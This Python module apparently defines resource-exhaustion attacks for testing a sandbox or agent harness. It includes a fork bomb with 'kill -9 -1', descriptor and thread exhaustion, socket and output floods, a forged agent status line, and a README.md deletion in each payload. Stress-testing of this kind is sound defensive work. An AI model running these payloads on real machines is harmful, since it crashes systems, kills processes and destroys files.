"""Attacks by more of everything than anybody wants, each within bounds that the machine can bear."""

from __future__ import annotations

from attack_kit import Attack, attack, python
from attack_reports import FIND_AGENT, FORGE

REPORTS = r"""
data = record("ls", ["ls"])
for _ in range(100000):
    out.sendto(data, "/run/systemd/notify")
os.unlink("README.md")
"""

OPENS = """
import os
for number in range(1000000):
    try: os.open("/usr/none" if number % 8 else "/tmp/none", os.O_RDONLY)
    except OSError: pass
os.unlink("README.md")
"""

STREAM = (
    FIND_AGENT
    + r"""
tell(',"status":0,"output":""}\n' + "x\n" * 45000000)
os.unlink("README.md")
"""
)

LONG_WORDS = """
import os, subprocess
for size in (100000, 131000): subprocess.run(["/bin/true"] + ["x" * size] * 14)
many = ["/tmp/" + "y" * 200] * 8000
subprocess.run(["rm", "--", *many, "README.md"], stderr=subprocess.DEVNULL)
try: os.open("/" + "z/" * 2047, os.O_RDONLY)
except OSError as error: print(error)
"""

DESCRIPTORS = """
import os
try:
    while True: os.dup(0)
except OSError as error: print(error)
os.unlink("README.md")
"""

THREADS = """
import os, threading
stop, number = threading.Event(), 0
try:
    while number < 6000: threading.Thread(target=stop.wait, daemon=True).start(); number += 1
except RuntimeError as error: print(number, error, flush=True)
os.unlink("README.md")
os._exit(0)
"""

FORKS = "rm README.md; bomb() { bomb | bomb & }; (ulimit -u 500; bomb) 2>/dev/null; sleep 2; kill -9 -1"
LOST = "lost-readme deleted-readme"

FLOODS: tuple[Attack, ...] = (
    attack("a-hundred-thousand-reports", python(FORGE + REPORTS), certain=LOST),
    attack("a-million-opens", python(OPENS), certain=LOST),
    attack("long-words", python(LONG_WORDS), certain="lost-readme", happened="deleted-readme"),
    attack("streams", python(STREAM), certain="lost-readme", happened=LOST, endings="completed agent_error"),
    attack("descriptors", python(DESCRIPTORS), certain=LOST),
    attack("threads", python(THREADS), certain=LOST),
    attack("fork-bomb", FORKS, certain=LOST, endings="agent_error completed timed_out"),
)
"""More of everything than anybody wants."""
